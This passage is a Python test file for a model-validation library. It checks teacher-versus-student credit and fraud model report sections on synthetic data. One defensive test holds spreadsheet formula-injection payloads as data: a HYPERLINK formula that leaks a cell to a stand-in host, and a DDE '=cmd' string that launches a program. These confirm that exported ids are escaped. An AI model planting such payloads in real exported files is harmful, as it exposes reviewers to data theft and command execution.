"""The validation report sections (build_discrimination, build_calibration, build_stability,
build_decisions, build_accuracy, flipped_cases_csv) on small synthetic inputs."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from dataclasses import replace
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scipy.stats import norm
from sklearn import metrics as skm
from statsmodels.stats.contingency_tables import mcnemar as sm_mcnemar

from finlite._util import natural_key
from finlite.errors import ConfigError
from finlite.evaluate import metrics as m
from finlite.evaluate import validation as v
from finlite.evaluate.fidelity import psi
from finlite.evaluate.sections import ScoredModel, Section, TabularInputs


def _model(name: str, test: np.ndarray, train: np.ndarray | None) -> ScoredModel:
    return ScoredModel(name=name, model=None, preprocessor=None, scores_test=test, scores_train=train,
                       score_frame=lambda f: np.zeros(len(f)), encode=lambda f: np.zeros((len(f), 1)))


def _inputs(student_noise: float = 0.0, n: int = 1500, seed: int = 0, task: str = "binary",
            cutoff: float | None = 0.5, shift: float = 0.0, student: np.ndarray | None = None,
            **kw: Any) -> TabularInputs:
    rng = np.random.default_rng(seed)
    x_tr, x_te = rng.normal(size=(n, 2)), rng.normal(size=(n, 2))
    x_te[:, 1] += shift
    logit_tr, logit_te = 1.5 * x_tr[:, 0] - 0.5, 1.5 * x_te[:, 0] - 0.5
    y_tr = (rng.random(n) < norm.cdf(logit_tr)).astype(float)
    y_te = (rng.random(n) < norm.cdf(logit_te)).astype(float)
    t_tr, t_te = norm.cdf(logit_tr), norm.cdf(logit_te)
    s_te = (norm.cdf(logit_te + rng.normal(0, student_noise, n)) if student is None else student)
    s_tr = norm.cdf(logit_tr + rng.normal(0, student_noise, n))
    cats = rng.choice(["a", "b", "c"], size=(2, n))
    train = pd.DataFrame({"x0": x_tr[:, 0], "x1": x_tr[:, 1], "kind": cats[0], "target": y_tr})
    test = pd.DataFrame({"x0": x_te[:, 0], "x1": x_te[:, 1], "kind": cats[1], "target": y_te})
    if task == "regression":
        y_tr, y_te = logit_tr + rng.normal(0, 0.3, n), logit_te + rng.normal(0, 0.3, n)
        t_tr, t_te = logit_tr, logit_te
        s_te = logit_te + rng.normal(0, student_noise, n) if student is None else student
        s_tr = logit_tr + rng.normal(0, student_noise, n)
    return TabularInputs(task=task, cutoff=cutoff, teacher=_model("teacher", t_te, t_tr),
                         student=_model("student", s_te, s_tr), y_test=y_te, y_train=y_tr, test_frame=test,
                         train_frame=train, ids=np.arange(n, 0, -1), id_name="application_id",
                         numeric=["x0", "x1"], categorical=["kind"], positive="bad", seed=seed, **kw)


def _json_ok(section: Section, sid: str) -> dict[str, Any]:
    d = section.to_dict()
    text = json.dumps(d, allow_nan=False)
    assert section.id == sid and d["id"] == sid
    assert Section.from_dict(json.loads(text)).to_dict() == json.loads(text)
    for p in d["plots"]:
        assert all(len(s["x"]) <= 201 for s in p["series"])
    return d


# -- discrimination --------------------------------------------------------------------------------
def test_discrimination_on_one_or_two_defaults_gives_no_interval_and_no_verdict() -> None:
    """A bootstrap of one or two defaults resamples the same rows: an AUC of 0.98 read "[0.95, 1]"
    on two defaults (Hanley-McNeil gives [0.84, 1]) and a paired interval FAILed a student on one
    (a low-default portfolio's walk-through, 2026-12-07). Below five of a class: no interval, WARN."""
    base = _inputs(n=400, seed=5)
    y = np.zeros(400)
    y[np.argsort(base.teacher.scores_test)[-2:]] = 1.0  # two defaults, ranked high by both models
    worse = base.teacher.scores_test.copy()
    worse[y == 1] = 0.01  # a student that misses both: a FAIL under the interval rule
    for student in (base.teacher.scores_test, worse):
        inp = replace(base, y_test=y, student=_model("student", student, base.student.scores_train))
        sec = v.build_discrimination(inp, n_boot=200)
        assert sec.status == "WARN", sec.summary
        for part in ("teacher", "student", "difference"):
            assert all(r["lower"] is None and r["upper"] is None for r in sec.metrics[part].values())
        assert ("(no interval: the test rows hold 2 positive and 398 other rows, and with fewer than 5 of a class a "
                "bootstrap resamples the same few rows") in sec.summary
        _json_ok(sec, "discrimination")
    # At five of each class the intervals are back.
    y5 = np.zeros(400)
    y5[np.argsort(base.teacher.scores_test)[-5:]] = 1.0
    five = v.build_discrimination(replace(base, y_test=y5), n_boot=200)
    assert five.metrics["teacher"]["auc"]["lower"] is not None


def test_calibration_in_the_large_is_judged_on_the_test_split_too_at_most_warn() -> None:
    """A low-default student predicting 4.4 times its 1.4 % default rate (Jeffreys p 0.005) had a
    calibration section PASS and a silent card (a walk-through, 2026-12-07): the student's own mean
    against the observed rate is judged on the test split too, WARN at most there."""
    from scipy.stats import beta

    base = _inputs(n=2000, seed=2)
    rng = np.random.default_rng(0)
    y = (rng.random(2000) < 0.014).astype(float)
    high = np.clip(base.teacher.scores_test * 0.0 + 0.06 + rng.normal(0, 0.01, 2000), 0.001, 0.999)
    inp = replace(base, y_test=y, teacher=_model("teacher", high, base.teacher.scores_train),
                  student=_model("student", high, base.student.scores_train))
    sec = v.build_calibration(inp)
    assert sec.status == "WARN", sec.summary
    mine = sec.metrics["in_the_large"]["student"]
    d, n = int(y.sum()), 2000
    # The Jeffreys test against scipy's beta directly: the posterior Beta(d + 1/2, n - d + 1/2) above the mean.
    assert mine["p_over"] == pytest.approx(float(beta.sf(float(np.mean(high)), d + 0.5, n - d + 0.5)), rel=1e-9)
    assert mine["p_value"] < 0.01 and mine["factor"] > 1.5
    assert "WARN, not FAIL, on the test split" in sec.summary
    assert any(t.id == "calibration_in_the_large" and "on the test split" in t.caption for t in sec.tables)
    # A calibrated pair stays PASS.
    fine = replace(base, teacher=_model("teacher", base.teacher.scores_test, base.teacher.scores_train),
                   student=_model("student", base.teacher.scores_test, base.student.scores_train))
    assert v.build_calibration(fine).status == "PASS"


def test_an_ece_gap_on_a_handful_of_positives_warns_at_most() -> None:
    """Three defaults over ten bands against a constant teacher's one band FAILed a student on ECE
    (0.0077 against 0.0006) while its mean prediction was right (a low-default walk-through,
    2026-12-07): below 30 of a class the ECE rule warns at most; at 300, the same shapes FAIL."""
    for n, positives in ((300, 3), (3000, 300)):
        base = _inputs(n=n, seed=1)
        y = np.zeros(n)
        y[:positives] = 1.0
        rate = positives / n
        teacher = np.full(n, rate)
        student = np.where(y == 1, rate, rate) + np.linspace(-rate * 0.9, rate * 0.9, n)
        student[:positives] = rate * 0.1  # the student scores the defaults lowest: miscalibrated by band
        inp = replace(base, y_test=y, teacher=_model("teacher", teacher, base.teacher.scores_train),
                      student=_model("student", student, base.student.scores_train))
        sec = v.build_calibration(inp)
        ece_gap_fails = (sec.metrics["ece_gap_relative"] > v.CAL_REL_FAIL
                         and sec.metrics["student"]["ece"] > v.CAL_RATIO_FAIL * sec.metrics["teacher"]["ece"])
        assert ece_gap_fails, sec.metrics
        assert sec.status == ("WARN" if positives < 30 else "FAIL"), (positives, sec.summary)


def test_decisions_on_a_handful_of_flagged_rows_are_not_passed() -> None:
    """One flagged row of a low-default portfolio: agreement 100 %, "too few to judge", and PASS
    (a walk-through, 2026-12-07). Fewer than 20 flagged rows between the models: WARN."""
    base = _inputs(n=300, seed=4)
    scores = np.full(300, 0.1)
    scores[:3] = 0.9
    inp = replace(base, teacher=_model("teacher", scores, base.teacher.scores_train),
                  student=_model("student", scores, base.student.scores_train))
    sec = v.build_decisions(inp)
    assert sec.status == "WARN" and "too few to judge, 20 needed" in sec.summary
    assert "fewer is WARN too: too few decisions to compare" in sec.threshold


def test_discrimination_on_too_few_of_a_class_is_no_evidence_in_the_saved_report() -> None:
    """A thin test split was a console warning only: the report and the card said PASS (a
    validator's review, 2026-12-04). Now the section is at least WARN and says why."""
    inp = _inputs(n=60, seed=3)
    positives = int(inp.y_test.sum())
    assert positives < 30
    sec = v.build_discrimination(inp, n_boot=100)
    assert sec.status == "WARN"
    assert (f"The test rows hold {positives} positive and {60 - positives} other rows: with fewer than 30 of a class "
            "these metrics move by whole points") in sec.summary
    assert "at least WARN when the test rows hold fewer than 30 of a class" in sec.threshold
    assert "no evidence" not in v.build_discrimination(_inputs(n=400, seed=3), n_boot=100).summary


def test_discrimination_identical_models_pass() -> None:
    inp = _inputs()
    sec = v.build_discrimination(inp, n_boot=200)
    d = _json_ok(sec, "discrimination")
    assert sec.status == "PASS"
    met = sec.metrics
    assert met["teacher"]["auc"]["estimate"] == pytest.approx(skm.roc_auc_score(inp.y_test, inp.teacher.scores_test))
    assert met["teacher"]["pr_auc"]["estimate"] == pytest.approx(
        skm.average_precision_score(inp.y_test, inp.teacher.scores_test))
    assert met["difference"]["auc"] == {"estimate": 0.0, "lower": 0.0, "upper": 0.0}
    for key in ("auc", "gini", "ks", "pr_auc", "recall_at_0_1pct_fpr", "recall_at_0_5pct_fpr",
                "recall_at_1pct_fpr", "recall_at_5pct_fpr"):
        ci = met["student"][key]
        assert ci["lower"] <= ci["estimate"] <= ci["upper"]
    assert {p["id"] for p in d["plots"]} == {"roc", "ks"}
    assert d["plots"][0]["reference"] == "diagonal"
    assert {t["id"] for t in d["tables"]} == {"discrimination_metrics", "lift_teacher", "lift_student"}


def test_discrimination_fails_a_clearly_worse_student_and_warns_a_slightly_worse_one() -> None:
    bad = v.build_discrimination(_inputs(student_noise=3.0), n_boot=200)
    assert bad.status == "FAIL"
    assert bad.metrics["difference"]["auc"]["lower"] > 0.02
    assert "0.02" in bad.threshold
    # Status follows the rule on the paired interval, whatever the noise level.
    for noise in (0.3, 0.6):
        sec = v.build_discrimination(_inputs(student_noise=noise, n=4000), n_boot=200)
        lo, hi = sec.metrics["difference"]["auc"]["lower"], sec.metrics["difference"]["auc"]["upper"]
        assert sec.status == ("FAIL" if lo > 0.02 else "WARN" if hi >= 0.02 or lo > 0 else "PASS")
    warn = v.build_discrimination(_inputs(student_noise=0.3, n=4000), n_boot=200)
    assert warn.status == "WARN"


def test_discrimination_does_not_pass_when_too_few_rows_to_tell() -> None:
    """A student whose AUC may be 0.02 or more below the teacher's (the interval reaches 0.02) is
    not PASSed just because the loss is not proven (R2 item 4); with many rows the same small
    loss is ruled material or not."""
    small = v.build_discrimination(_inputs(student_noise=0.5, n=150, seed=3), n_boot=300)
    d = small.metrics["difference"]["auc"]
    assert d["lower"] <= 0.02 <= d["upper"]
    assert small.status == "WARN"
    assert "upper end is below 0.02" in small.threshold
    # Under 100 negatives: 0.1, 0.5 and 1 % all allow no false positive, so they are one number.
    negatives = int(small.metrics["rows"] - small.metrics["positives"])
    assert 50 <= negatives < 100
    same = [n for n in small.notes if "one measurement here" in n]
    assert same == ["recall_at_0_1pct_fpr, recall_at_0_5pct_fpr and recall_at_1pct_fpr are one measurement here: "
                    f"with {negatives} negative test rows each allows 0 false positives."]
    student = small.metrics["student"]
    assert len({student[k]["estimate"] for k in ("recall_at_0_1pct_fpr", "recall_at_0_5pct_fpr",
                                                 "recall_at_1pct_fpr")}) == 1
    assert not [n for n in v.build_discrimination(_inputs(), n_boot=50).notes if "one measurement" in n]


def test_discrimination_refuses_regression_inputs() -> None:
    with pytest.raises(ConfigError, match="binary"):
        v.build_discrimination(_inputs(task="regression"))


# -- calibration -----------------------------------------------------------------------------------
def test_calibration_by_status() -> None:
    ok = v.build_calibration(_inputs())
    _json_ok(ok, "calibration")
    assert ok.status == "PASS"
    inp = _inputs()
    assert ok.metrics["teacher"]["brier"] == pytest.approx(skm.brier_score_loss(inp.y_test, inp.teacher.scores_test))
    # A student squashed towards 0.5 is badly calibrated: its ECE far exceeds the teacher's.
    squashed = 0.5 + 0.3 * (inp.teacher.scores_test - 0.5)
    bad = v.build_calibration(_inputs(student=squashed))
    assert bad.metrics["ece_gap"] > 0.05 and bad.status == "FAIL"
    mild = 0.5 + 0.92 * (inp.teacher.scores_test - 0.5)
    sec = v.build_calibration(_inputs(student=mild))
    gap = sec.metrics["ece_gap"]
    assert sec.status in {"PASS", "WARN"}
    if gap > 0.02:
        assert sec.status == "WARN"


def test_calibration_fails_a_student_whose_pds_are_four_times_its_teachers() -> None:
    """A teacher at half the true PD and a student at twice it are equally far from the truth, so
    the calibration-in-the-large factor was 0.958 and the section called the student closer (it
    only warned, through its ECE rule); the student's PDs are four times those of the model it
    replaces (a validator's review, 2026-12-04). The models below sit as far from the truth on
    either side, so the other rules see nothing and the mean-prediction factor decides."""
    rng = np.random.default_rng(11)
    n = 20_000
    pd_true = rng.beta(2, 18, n)
    inp = _inputs(n=n)
    inp.y_test = (rng.random(n) < pd_true).astype(float)

    def judged(factor: float) -> Any:
        inp.teacher.scores_test = pd_true / np.sqrt(factor)
        inp.student.scores_test = np.clip(pd_true * np.sqrt(factor), 0, 1)
        return v.build_calibration(inp)

    for factor, status in ((1.2, "PASS"), (1.5, "WARN"), (4.0, "FAIL")):
        sec = judged(factor)
        assert sec.metrics["calibration_in_the_large_excess"] < 1.05, factor  # the truth-relative factor: nothing
        expected = float(inp.student.scores_test.mean() / inp.teacher.scores_test.mean())
        assert sec.metrics["mean_prediction_factor"] == pytest.approx(expected) and expected == pytest.approx(factor,
                                                                                                             rel=0.01)
        assert sec.status == status, (factor, sec.summary)
    assert "mean prediction factor" in sec.threshold


def test_calibration_fails_on_rare_events() -> None:
    """Fraud-like data: base rate ~0.2 %. A student predicting 8x too much fraud has an ECE gap of
    about 0.013 (the old absolute 0.02 / 0.05 rules passed it) but 6x the base rate: FAIL; its
    calibration in the large (mean predicted / observed) is about 8 (R2 item 5)."""
    rng = np.random.default_rng(7)
    n = 60_000
    p_true = np.clip(0.002 * np.exp(rng.normal(0, 1, n) - 0.5), 0, 1)
    y = (rng.random(n) < p_true).astype(float)
    inp = _inputs(n=n)
    inp.y_test = y
    inp.teacher.scores_test = p_true
    inp.student.scores_test = np.clip(8 * p_true, 0, 1)
    sec = v.build_calibration(inp)
    gap = sec.metrics["ece_gap"]
    assert 0.005 < gap < 0.02  # the old absolute rules: PASS
    rate = y.mean()
    assert sec.metrics["base_rate"] == pytest.approx(rate)
    assert sec.metrics["ece_gap_relative"] == pytest.approx(gap / rate)
    assert sec.metrics["student"]["calibration_in_the_large"] == pytest.approx(np.clip(8 * p_true, 0, 1).mean() / rate)
    assert sec.status == "FAIL"
    # A student off by 10 % on average: calibration in the large within 1.25 of the teacher's, PASS/WARN only.
    inp.student.scores_test = 1.1 * p_true
    assert v.build_calibration(inp).status in {"PASS", "WARN"}
    inp.student.scores_test = p_true.copy()
    assert v.build_calibration(inp).status == "PASS"


# -- stability -------------------------------------------------------------------------------------
def test_stability_psi_and_csi() -> None:
    inp = _inputs()
    sec = v.build_stability(inp)
    _json_ok(sec, "stability")
    assert inp.student.scores_train is not None
    assert sec.metrics["student"]["psi"] == pytest.approx(psi(inp.student.scores_train, inp.student.scores_test))
    assert sec.status == "PASS"
    shifted = v.build_stability(_inputs(shift=2.0))
    assert shifted.status == "WARN"  # the data shifted (x1 does not drive the score): WARN, not FAIL
    assert shifted.metrics["features_shifted"] == ["x1"]
    assert shifted.tables[-1].rows[0][0] == "x1"


def test_the_psi_sampling_alone_gives_matches_a_simulation() -> None:
    """Two samples of one population (German credit's 600 training and 200 test rows): the PSI's
    mean and 95th percentile over 1,000 simulated draws, against the chi-square reference the
    section quotes (a validator's walk-through, 2026-12-06: PSI 0.1227 read as drift, with 0.113
    the 95th percentile of noise at these sizes)."""
    rng = np.random.default_rng(0)
    sims = np.array([v.psi_table(rng.random(600), rng.random(200), 10)["psi"] for _ in range(1000)])
    ref = v.psi_sampling(0.1227, 10, 600, 200)
    assert ref["expected"] == pytest.approx(sims.mean(), rel=0.1)
    assert ref["p95"] == pytest.approx(np.percentile(sims, 95), rel=0.1)
    assert ref["p_value"] == pytest.approx(np.mean(sims >= 0.1227), abs=0.02)
    assert v.psi_sampling(None, 10, 600, 200)["p_value"] is None and v.psi_sampling(0.1, 1, 600, 200)["p95"] is None
    inp = _inputs()
    sec = v.build_stability(inp)
    noise = sec.metrics["student"]["sampling"]
    assert inp.student.scores_train is not None and noise["expected_rows"] == len(inp.student.scores_train)
    assert noise["actual_rows"] == len(inp.student.scores_test)
    assert f"give a PSI above {noise['p95']:.3f} one time in 20" in sec.summary


def test_stability_fails_a_shifted_score() -> None:
    inp = _inputs()
    inp.student.scores_train = np.clip(inp.student.scores_test * 0.3, 0, 1)
    sec = v.build_stability(inp)
    assert sec.metrics["student"]["psi"] >= 0.25 and sec.status == "FAIL"


def test_stability_without_training_scores_says_so() -> None:
    inp = _inputs()
    inp.teacher.scores_train = None
    sec = v.build_stability(inp)
    assert sec.metrics["teacher"] == {"psi": None}
    assert any("teacher" in n for n in sec.notes)


def test_stability_works_for_regression() -> None:
    sec = v.build_stability(_inputs(task="regression", cutoff=None))
    _json_ok(sec, "stability")
    assert sec.status == "PASS"


# -- decisions -------------------------------------------------------------------------------------
def test_decisions_counts_mcnemar_and_approval_at_teacher_bad_rate() -> None:
    inp = _inputs(student_noise=0.4)
    sec = v.build_decisions(inp)
    _json_ok(sec, "decisions")
    y, t, s = inp.y_test, inp.teacher.scores_test, inp.student.scores_test
    tf, sf = t >= 0.5, s >= 0.5
    met = sec.metrics
    assert met["agreement"] == pytest.approx(np.mean(tf == sf))
    assert met["flipped"] == int(np.sum(tf != sf))
    cell = met["swap_set"]["teacher_positive/student_negative"]
    assert cell["count"] == int(np.sum(tf & ~sf))
    assert cell["positive_rate"] == pytest.approx(y[tf & ~sf].mean())
    b = int(np.sum((tf == (y == 1)) & (sf != (y == 1))))
    c = int(np.sum((tf != (y == 1)) & (sf == (y == 1))))
    ref = sm_mcnemar(np.array([[0, b], [c, 0]]), exact=b + c < 25, correction=True)
    assert met["mcnemar"]["p_value"] == pytest.approx(float(ref.pvalue))
    assert met["approval_rate"]["teacher"] == pytest.approx(np.mean(~tf))
    # Brute force: every cut-off at a distinct student score, approving scores below it.
    target = y[~tf].mean()
    best = 0.0
    for cut in np.r_[np.unique(s), np.inf]:
        approved = s < cut
        if approved.any() and y[approved].mean() <= target + 1e-12:
            best = max(best, approved.mean())
    at = met["student_at_teacher_bad_rate"]
    assert at["approval_rate"] == pytest.approx(best)
    assert at["approved_bad_rate"] <= target + 1e-12
    agree = met["agreement"]
    p = met["mcnemar"]["p_value"]
    overlap = np.sum(tf & sf) / np.sum(tf | sf)
    assert met["alert_overlap"] == pytest.approx(overlap)
    expected = ("FAIL" if agree < 0.95 else "WARN" if agree < 0.98 or overlap < 0.8 or (p < 0.05 and b > c)
                else "PASS")
    assert sec.status == expected


def test_decisions_status_bands() -> None:
    assert v.build_decisions(_inputs()).status == "PASS"
    assert v.build_decisions(_inputs(student_noise=2.0)).status == "FAIL"
    inp = _inputs()
    s = inp.teacher.scores_test.copy()
    near = np.flatnonzero(np.abs(s - 0.5) < 0.2)[:45]  # 3 % of 1,500 rows flip: agreement 0.97
    s[near] = 1 - s[near]
    sec = v.build_decisions(_inputs(student=s))
    assert sec.metrics["agreement"] == pytest.approx(1 - 45 / 1500)
    assert sec.status == "WARN"


def test_decisions_needs_a_cutoff() -> None:
    with pytest.raises(ConfigError, match="cut-off"):
        v.build_decisions(_inputs(cutoff=None))


def test_flipped_cases_csv() -> None:
    inp = _inputs(student_noise=0.4)
    text = v.flipped_cases_csv(inp)
    assert text == v.flipped_cases_csv(inp)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["application_id", "teacher_score", "student_score", "teacher_decision", "student_decision",
                       "label"]
    body = rows[1:]
    tf, sf = inp.teacher.scores_test >= 0.5, inp.student.scores_test >= 0.5
    assert len(body) == int(np.sum(tf != sf))
    ids = [int(r[0]) for r in body]
    assert ids == sorted(ids)
    for r in body:
        i = int(np.flatnonzero(inp.ids == int(r[0]))[0])
        assert r[1] == f"{inp.teacher.scores_test[i]:.6f}" and r[5] == str(int(inp.y_test[i]))
        assert {r[3], r[4]} == {"declined", "approved"}  # a credit model's words (the fraud ones below)
        assert r[3] == ("declined" if tf[i] else "approved")
    fraud = v.flipped_cases_csv(replace(inp, domain="fraud"))
    assert fraud == text.replace(",declined,", ",flagged,").replace(",approved,", ",passed,")


def test_flipped_cases_csv_orders_text_ids_naturally() -> None:
    """Text ids sorted as text put X107 before X49 (note 41): runs of digits count as numbers."""
    import dataclasses

    inp = _inputs(student_noise=0.4)
    ids = np.array([f"X{i}" for i in range(len(inp.ids))], dtype=object)
    written = [r[0] for r in list(csv.reader(io.StringIO(v.flipped_cases_csv(dataclasses.replace(inp, ids=ids)))))[1:]]
    assert written == sorted(written, key=lambda text: int(text[1:])) and len(written) > 10
    assert [natural_key(x) < natural_key(y) for x, y in [("X49", "X107"), ("007", "8"), ("A9", "B1"),
                                                                ("9" * 5000, "1" + "0" * 5000)]] == [True] * 4
    # Ids read as text that are all numbers (the report reads an id column as text) go in numeric order.
    ids = np.array([f"{(i - 50) / 4:g}" for i in range(len(inp.ids))], dtype=object)
    written = [r[0] for r in list(csv.reader(io.StringIO(v.flipped_cases_csv(dataclasses.replace(inp, ids=ids)))))[1:]]
    assert [float(x) for x in written] == sorted(float(x) for x in written) and any("-" in x for x in written)


def test_flipped_cases_csv_keeps_a_spreadsheet_from_running_an_id_as_a_formula() -> None:
    """flips.csv is opened by a reviewer: ids from the data that start a formula are written as text."""
    import dataclasses

    inp = _inputs(student_noise=0.4)
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "plain"]
    ids = np.array([f"{hostile[i % len(hostile)]}#{i}" for i in range(len(inp.ids) - 1)] + ["-0.5"], dtype=object)
    inp = dataclasses.replace(inp, ids=ids, id_name="=cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(v.flipped_cases_csv(inp))))
    assert rows[0][0] == "'=cmd|' /C calc'!A0"
    flipped = set(ids[(inp.teacher.scores_test >= 0.5) != (inp.student.scores_test >= 0.5)])
    written = [r[0] for r in rows[1:]]
    assert len(written) == len(flipped) > 20
    for cell in written:
        original = cell[1:] if cell.startswith("'") else cell
        assert original in flipped  # the id itself follows the apostrophe, unchanged
        formula = original[0] in "=+-@\t" and not _number(original)
        assert cell == ("'" + original if formula else original)
    assert {c[:2] for c in written} >= {"'=", "'@", "'+", "'-", "'\t", "pl"}


@given(st.text(max_size=12))
def test_spreadsheet_safe_only_ever_prefixes_text_that_would_start_a_formula(text: str) -> None:
    from finlite._util import spreadsheet_safe

    out = spreadsheet_safe(text)
    assert out in (text, "'" + text)
    assert not str(out).startswith(("=", "+", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")) or _number(text)
    if out != text:
        assert text[:1] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and not _number(text)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- accuracy (regression) -------------------------------------------------------------------------
def test_accuracy_section_for_regression() -> None:
    inp = _inputs(task="regression", cutoff=None, student_noise=0.05)
    sec = v.build_accuracy(inp, n_boot=200)
    _json_ok(sec, "accuracy")
    y, t = inp.y_test, inp.teacher.scores_test
    assert sec.metrics["teacher"]["rmse"]["estimate"] == pytest.approx(np.sqrt(skm.mean_squared_error(y, t)))
    assert sec.metrics["teacher"]["mae"]["estimate"] == pytest.approx(skm.mean_absolute_error(y, t))
    assert sec.metrics["teacher"]["r2"]["estimate"] == pytest.approx(skm.r2_score(y, t))
    assert sec.metrics["difference"]["rmse"]["estimate"] == pytest.approx(
        m.rmse(y, t) - m.rmse(y, inp.student.scores_test))
    assert sec.status in {"PASS", "WARN"}
    bad = v.build_accuracy(_inputs(task="regression", cutoff=None, student_noise=1.0), n_boot=200)
    assert bad.status == "FAIL"
    assert len(bad.plots[0].series[0].x) == 20
    with pytest.raises(ConfigError, match="regression"):
        v.build_accuracy(_inputs())


def test_default_resamples_shrink_only_for_very_large_test_sets() -> None:
    assert v.default_n_boot(57_000) == v.N_BOOT == 1000
    assert v.default_n_boot(1_000_000) == 250
    assert v.default_n_boot(100_000_000) == 200
    sec = v.build_discrimination(_inputs(n=300))
    assert sec.metrics["n_boot"] == 1000 and "1000 bootstrap resamples" in sec.notes[0]
    with pytest.raises(ConfigError, match="n_boot"):
        v.build_discrimination(_inputs(), n_boot=0)


def test_decisions_warn_when_the_alerts_differ_though_agreement_is_high() -> None:
    """At fraud prevalence agreement over all rows stays near 1 whatever the alerts do (99 % with 34 of
    61 alerts shared, a review of 2026-12-03): the section judges the alerts on their own too."""
    inp = _inputs(n=4000)
    t = inp.teacher.scores_test
    flagged = np.flatnonzero(t >= 0.5)
    s = t.copy()
    # 1 % of the rows, all teacher alerts, fall below the cut-off; 1 % of the others rise above it.
    s[flagged[:40]] = 0.1
    s[np.flatnonzero(t < 0.5)[:40]] = 0.9
    sec = v.build_decisions(_inputs(n=4000, student=s))
    met = sec.metrics
    both, either = int(np.sum((t >= 0.5) & (s >= 0.5))), int(np.sum((t >= 0.5) | (s >= 0.5)))
    assert met["agreement"] == pytest.approx(1 - 80 / 4000)
    assert (met["flagged_by_both"], met["flagged_by_either"]) == (both, either)
    assert met["alert_overlap"] == pytest.approx(both / either)
    assert met["alert_overlap"] >= v.ALERT_OVERLAP_WARN  # a book flagging a third of its rows
    # A rare-alert book: the teacher flags its top 1 %; the student drops half of them and raises as many
    # unflagged bad rows as it dropped more bad than good ones, so each model is right as often.
    base = _inputs(n=4000)
    y = base.y_test
    rare = np.where(t >= np.quantile(t, 0.99), t, t * 0.4)
    student = rare.copy()
    top = np.flatnonzero(rare >= 0.5)
    dropped = top[: top.size // 2]
    student[dropped] = 0.1
    bad_dropped, good_dropped = int(y[dropped].sum()), int((1 - y[dropped]).sum())
    raised = np.flatnonzero((rare < 0.5) & (y == 1))[: bad_dropped - good_dropped]
    student[raised] = 0.9
    sec = v.build_decisions(dataclasses.replace(base, teacher=_model("teacher", rare, base.teacher.scores_train),
                                                student=_model("student", student, base.student.scores_train)))
    assert sec.metrics["agreement"] > 0.99 and sec.metrics["alert_overlap"] < v.ALERT_OVERLAP_WARN
    assert sec.metrics["mcnemar"]["p_value"] > 0.5  # b = c: the overlap alone warns here
    assert sec.status == "WARN"
    assert f"alert overlap {sec.metrics['alert_overlap']:.4f}" in sec.threshold
    assert f"of the {sec.metrics['flagged_by_either']:,} row(s) either model flags" in sec.summary
    # With exact intervals, checked against statsmodels' Clopper-Pearson interval.
    from statsmodels.stats.proportion import proportion_confint
    met = sec.metrics
    lo, hi = proportion_confint(met["flagged_by_both"], met["flagged_by_either"], alpha=0.05, method="beta")
    assert met["alert_overlap_ci"] == pytest.approx([lo, hi], abs=1e-9)
    assert f"overlap {met['alert_overlap']:.2%}, 95% CI {lo:.2%}–{hi:.2%}" in sec.summary
    same = round(met["agreement"] * met["rows"])
    lo, hi = proportion_confint(same, met["rows"], alpha=0.05, method="beta")
    assert met["agreement_ci"] == pytest.approx([lo, hi], abs=1e-9)
    assert f"Agreement {met['agreement']:.2%} (95% CI {lo:.2%}–{hi:.2%})" in sec.summary


def test_decisions_do_not_judge_a_handful_of_alerts_or_none() -> None:
    base = _inputs(n=4000)
    t = base.teacher.scores_test
    cut = float(np.sort(t)[-5])  # the teacher flags 5 rows
    s = t.copy()
    top = np.argsort(t)[-5:]
    s[top[0]] = 0.0  # one alert swapped for another row: overlap 4/6
    s[np.argsort(t)[0]] = 1.0
    sec = v.build_decisions(dataclasses.replace(base, cutoff=cut, student=_model("student", s, base.student.scores_train)))
    assert sec.metrics["alert_overlap"] == pytest.approx(4 / 6) and sec.metrics["flagged_by_either"] == 6
    assert "too few to judge, 20 needed" in sec.summary
    # Agreement 99.95 %, McNemar p 1: six alerts decide nothing either way, so the section is not
    # PASS on them (a low-default walk-through, 2026-12-07: PASS on one flagged row) but WARN.
    assert sec.status == "WARN"
    # Neither model flags a row: no overlap to report, not a perfect one.
    none = v.build_decisions(dataclasses.replace(base, cutoff=1.5))
    assert none.metrics["alert_overlap"] is None and none.metrics["flagged_by_either"] == 0
    assert none.metrics["alert_overlap_ci"] is None and none.metrics["agreement_ci"][1] == 1.0
    assert "Neither model flags a row, so there are no alerts to compare." in none.summary
    assert "alert overlap none (no row flagged)" in none.threshold
    # ... and nothing decided: a cut-off where the teacher flags no row compares no decision.
    assert none.status == "WARN" and "The teacher flags no row at this cut-off, so no decision is compared" in none.summary
    every = v.build_decisions(dataclasses.replace(base, cutoff=0.0))
    assert every.status == "WARN" and "The teacher flags every row at this cut-off" in every.summary
    _json_ok(none, "decisions")


def test_decisions_warn_when_the_student_catches_fewer_positives() -> None:
    """McNemar weighs a missed fraud the same as an avoided false alert: a student that missed 3 of
    the teacher's caught frauds and caught none anew was PASS (a fraud engineer's walk-through,
    2026-12-06). Counts checked against the swap set computed here."""
    base = _inputs(n=4000)
    t, y = base.teacher.scores_test, base.y_test
    caught = np.flatnonzero((t >= 0.5) & (y == 1))
    fine = np.flatnonzero((t >= 0.5) & (y == 0))
    positives = int((y == 1).sum())
    k = int(np.ceil(0.03 * positives))  # 3 % of the positives: above the 2 % margin, and at least 3
    s = t.copy()
    s[caught[:k]] = 0.1  # missed: the teacher caught them
    s[fine[:k]] = 0.1  # as many false alerts dropped: McNemar sees a tie
    sec = v.build_decisions(_inputs(n=4000, student=s))
    got = sec.metrics["positives_caught"]
    assert got == {"teacher": len(caught), "student": len(caught) - k, "missed": k, "caught_anew": 0,
                   "positives": positives, "drop": pytest.approx(k / positives)}
    assert sec.metrics["mcnemar"]["p_value"] > 0.5  # a tie: no difference in correctness
    assert sec.status == "WARN"
    assert (f"Of the {positives:,} bad row(s) the teacher flags {len(caught):,} and the student {len(caught) - k:,} "
            f"({k:,} of the teacher's missed, 0 caught anew): the student catches {k / positives:.1%} of them fewer"
            in sec.summary)
    # Two misses: within the margin of a few positives, not warned of, but still counted.
    s2 = t.copy()
    s2[caught[:2]] = 0.1
    s2[fine[:2]] = 0.1
    small = v.build_decisions(_inputs(n=4000, student=s2))
